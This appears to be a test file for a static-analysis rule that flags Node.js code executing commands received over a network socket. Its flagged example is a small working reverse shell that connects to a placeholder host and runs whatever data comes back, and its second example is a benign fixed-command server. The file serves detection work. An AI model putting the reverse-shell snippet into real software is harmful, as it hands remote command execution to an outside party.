const net = require('net');
const { exec } = require('child_process');

const c = net.connect(7001, '192.0.2.5');
c.on('data', (d) => {
  // ruleid: js-socket-command-exec
  exec(d.toString(), (err, out) => c.write(out));
});

const server = net.createServer((sock) => {
  sock.on('data', (d) => {
    // ok: js-socket-command-exec
    exec('logger received', () => sock.write(d));
  });
});
